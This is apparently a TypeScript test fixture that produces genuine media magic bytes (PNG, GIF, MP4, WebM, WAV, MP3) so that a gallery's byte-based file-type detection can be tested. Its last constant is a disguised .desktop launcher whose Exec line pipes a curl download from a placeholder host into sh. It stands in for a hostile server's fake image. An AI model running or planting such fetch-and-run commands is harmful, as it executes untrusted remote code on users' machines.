/**
 * Real media bytes for tests: whether a file is image, video or audio is decided from its bytes
 * (src-main/core/gallery.ts, file-type), so a test that moves a file to the gallery serves what the
 * type's magic numbers say, padded with seeded random bytes to any size. Each head alone is enough for
 * file-type; test/unit/gallery.test.ts checks every one.
 */
import { randomBytesSeeded } from './server.js';

/** A whole 16×16 PNG (signature, IHDR, IDAT, IEND): file-type reads up to its IDAT chunk. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAFklEQVR4nGP8z8BQz0AEYBxVSF+FABJADq0H4tqAAAAAAElFTkSuQmCC',
  'base64',
);

export const MEDIA_HEADS = {
  png: PNG,
  gif: Buffer.from('GIF89a', 'latin1'),
  /** An ISO BMFF `ftyp` box, brand isom. */
  mp4: Buffer.concat([Buffer.from('00000018', 'hex'), Buffer.from('ftypisom', 'latin1'), Buffer.from('00000200', 'hex'), Buffer.from('isommp41', 'latin1')]),
  /** An EBML header whose DocType is webm. */
  webm: Buffer.from('1a45dfa3010000000000001f4282847765626d4287810242858102', 'hex'),
  /** RIFF, a length, WAVE, the start of the fmt chunk. */
  wav: Buffer.concat([Buffer.from('RIFF', 'latin1'), Buffer.from('24000000', 'hex'), Buffer.from('WAVEfmt ', 'latin1')]),
  /** An MPEG-1 Layer III frame header (128 kbit/s, 44.1 kHz). */
  mp3: Buffer.from('fffb9064', 'hex'),
} as const;

export type MediaBytesType = keyof typeof MEDIA_HEADS;

/** The MIME type file-type reports for each head. */
export const MEDIA_MIME: Record<MediaBytesType, string> = {
  png: 'image/png',
  gif: 'image/gif',
  mp4: 'video/mp4',
  webm: 'video/webm',
  wav: 'audio/wav',
  mp3: 'audio/mpeg',
};

/** `type`'s real head, then seeded random bytes up to `size` (at least the head). */
export function mediaBytes(type: MediaBytesType, size = 0, seed = 1): Buffer {
  const head = MEDIA_HEADS[type];
  return size <= head.length ? Buffer.from(head) : Buffer.concat([head, randomBytesSeeded(size - head.length, seed)]);
}

/** Text that no magic number matches: what a hostile server serves as `image/png`. */
export const DESKTOP_ENTRY = Buffer.from('[Desktop Entry]\nType=Application\nName=Updater\nExec=sh -c "curl -s http://example.invalid/x | sh"\n');
